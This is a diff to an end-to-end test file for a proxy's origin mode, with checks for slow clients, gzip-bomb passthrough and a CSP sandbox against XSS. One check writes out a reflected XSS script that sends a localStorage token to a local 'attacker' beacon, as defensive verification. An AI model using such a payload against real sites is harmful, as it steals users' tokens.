@@ -4,21 +4,28 @@
  * ORIGIN_URL pointing at it. A client sees one ETag and gets 304s from both replicas, which send no body for
  * them; a change at the origin gives a 200 with a new tag; one user's answer is never another's; an origin that
  * fails, breaks off or is slow gives 502 or 504; a write with our tag in If-Match lands; curl sees it all too.
+ * A slow client gets a whole body, a gzip bomb passes as it came, and in headless Chromium a page of the origin
+ * with a reflected XSS cannot read the demo page's token (while the same page without the sandbox can).
  *
- * Usage, from the project root: node_modules/.bin/node e2e/origin-mode.ts   (15-30 s; no account, no network)
+ * Needs: /usr/bin/chromium (apt-get install -y chromium) and the npm package playwright-core.
+ * Usage, from the project root: node_modules/.bin/node e2e/origin-mode.ts   (20-40 s; no account, no network)
  */
 
 import assert from 'node:assert/strict'
 import { execFile } from 'node:child_process'
+import { createServer, get as httpGet } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { promisify } from 'node:util'
+import type { Browser } from 'playwright-core'
 import { type ReplicaStats, startReplicaOrigin } from '../scripts/replica-origin.ts'
 import { Checks, exitAfter } from './checks.ts'
+import { launchChromium } from './chromium.ts'
 import { startLocalServer } from './local-server.ts'
 
 const REQUEST_TIMEOUT_MS = 15_000
 const ORIGIN_TIMEOUT_MS = 1_500
 
-exitAfter(180_000)
+exitAfter(240_000)
 const checks = new Checks()
 const origin = await startReplicaOrigin()
 const server = await startLocalServer('origin mode', {
@@ -46,6 +53,63 @@ async function stats(): Promise<Record<'a' | 'b', ReplicaStats>> {
 async function problem(response: Response): Promise<{ status: number; detail: string }> {
   assert.equal(response.headers.get('Content-Type'), 'application/problem+json')
   return (await response.json()) as { status: number; detail: string }
+}
+
+/** RawAnswer is what arrived on the wire: status, fields, and the body's bytes as sent (not decoded). */
+interface RawAnswer {
+  status: number
+  headers: Record<string, string | string[] | undefined>
+  bytes: number
+}
+
+/** getRaw GETs a path with node:http, which decodes nothing, after waiting `pauseMs` before reading the body. */
+function getRaw(path: string, headers: Record<string, string>, pauseMs = 0): Promise<RawAnswer> {
+  return new Promise((resolve, reject) => {
+    const request = httpGet(new URL(path, server.url), { headers }, (response) => {
+      let bytes = 0
+      response.pause()
+      setTimeout(() => {
+        response.on('data', (chunk: Buffer) => {
+          bytes += chunk.byteLength
+        })
+        response.on('end', () =>
+          resolve({ status: response.statusCode ?? 0, headers: response.headers, bytes }),
+        )
+        response.on('error', reject)
+        response.resume()
+      }, pauseMs)
+    })
+    request.on('error', reject)
+    request.setTimeout(REQUEST_TIMEOUT_MS, () => request.destroy(new Error(`GET ${path} timed out`)))
+  })
+}
+
+/** Beacon is a server on another origin that counts what a page sends it, as an attacker's would. */
+interface Beacon {
+  readonly url: URL
+  readonly received: string[]
+  close(): Promise<void>
+}
+
+async function startBeacon(): Promise<Beacon> {
+  const received: string[] = []
+  const beacon = createServer((request, response) => {
+    received.push(new URL(request.url ?? '/', 'http://beacon.test').searchParams.get('t') ?? '')
+    response.writeHead(204).end()
+  })
+  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve))
+  const { port } = beacon.address() as AddressInfo
+  return {
+    url: new URL(`http://127.0.0.1:${port}/`),
+    received,
+    close: () => new Promise((resolve) => beacon.close(() => resolve())),
+  }
+}
+
+async function waitFor(condition: () => boolean, ms: number): Promise<boolean> {
+  const until = Date.now() + ms
+  while (!condition() && Date.now() < until) await new Promise((resolve) => setTimeout(resolve, 50))
+  return condition()
 }
 
 try {
@@ -164,6 +228,92 @@ try {
     })
     assert.equal(stale.status, 412)
   })
+
+  await checks.run('a client that reads slowly gets the whole passed-on body', async () => {
+    const size = 8 * 1_048_576
+    const answer = await getRaw(`/legacy/bulk?bytes=${size}&status=203`, {}, ORIGIN_TIMEOUT_MS * 2)
+    assert.equal(answer.status, 203)
+    assert.equal(answer.bytes, size)
+    return `${size} bytes after a ${ORIGIN_TIMEOUT_MS * 2} ms pause`
+  })
+
+  await checks.run('a gzip bomb from the origin is passed on as it came, not decoded', async () => {
+    const started = Date.now()
+    const answer = await getRaw('/legacy/gzip-bomb', { 'Accept-Encoding': 'gzip' })
+    assert.equal(answer.status, 200)
+    assert.equal(answer.headers['content-encoding'], 'gzip')
+    assert.equal(answer.headers.etag, undefined)
+    assert.ok(answer.bytes < 100_000, `${answer.bytes} bytes on the wire`)
+    return `${answer.bytes} coded bytes for 32 MiB, in ${Date.now() - started} ms`
+  })
+
+  await checks.run("an origin's 101 is a 502 problem", async () => {
+    const answer = await send('/legacy/switching')
+    assert.equal(answer.status, 502)
+    return (await problem(answer)).detail
+  })
+
+  let browser: Browser | undefined
+  const beacon = await startBeacon()
+  try {
+    await checks.run(
+      "a page of the origin cannot read the demo page's token: without the sandbox it can",
+      async () => {
+        browser = await launchChromium()
+        // Chromium asks before a page reaches another loopback port: granted, as an attacker's server is reached.
+        const context = await browser.newContext({ permissions: ['local-network-access'] })
+        const page = await context.newPage()
+        // The demo page keeps the token typed into it in this origin's localStorage.
+        await page.goto(server.url.href)
+        await page.fill('#token', 'the-write-token')
+        await page.press('#token', 'Enter')
+        const key = 'edge-etag-demo:token'
+        assert.equal(await page.evaluate((name) => localStorage.getItem(name), key), 'the-write-token')
+        // An origin page with a reflected XSS, whose script sends the token to another origin.
+        const script = `document.title='ran';new Image().src='${beacon.url.href}?t='+localStorage.getItem('${key}')`
+        const hostile = new URL(
+          `/legacy/reflect?name=${encodeURIComponent(`<script>${script}</script>`)}`,
+          server.url,
+        )
+
+        // Control: the same answer without the sandbox (the CSP field taken out on its way in) runs and leaks.
+        const isHostile = (url: URL) => url.pathname === '/legacy/reflect'
+        await page.route(isHostile, async (route) => {
+          const response = await route.fetch()
+          const headers = { ...response.headers() }
+          // route.fetch hands over the body decoded: its coding and length go with the policy.
+          for (const name of ['content-security-policy', 'content-encoding', 'content-length'])
+            delete headers[name]
+          await route.fulfill({ response, headers })
+        })
+        await page.goto(hostile.href)
+        assert.ok(await waitFor(() => beacon.received.length > 0, 5_000), 'the control page ran no script')
+        assert.deepEqual(beacon.received, ['the-write-token'])
+        await page.unrouteAll()
+
+        // As served: the script never runs, the page's origin is opaque, and nothing reaches the beacon.
+        const served = await page.goto(hostile.href)
+        assert.match((await page.content()) ?? '', /<script>/)
+        await new Promise((resolve) => setTimeout(resolve, 1_500))
+        assert.deepEqual(beacon.received, ['the-write-token'], 'the served page sent the token to the beacon')
+        assert.notEqual(await page.title(), 'ran')
+        assert.equal(await page.evaluate('window.origin'), 'null')
+        const read = await page.evaluate((name) => {
+          try {
+            return localStorage.getItem(name)
+          } catch (error) {
+            return (error as Error).name
+          }
+        }, key)
+        assert.equal(read, 'SecurityError')
+        assert.equal((await served?.allHeaders())?.['content-security-policy'], 'sandbox')
+        return 'control: token sent to the beacon; sandboxed: no script, opaque origin, localStorage refused'
+      },
+    )
+  } finally {
+    await browser?.close()
+    await beacon.close()
+  }
 
   await checks.run('the API beside the origin is untouched', async () => {
     const answer = await send('/api/items/apple')
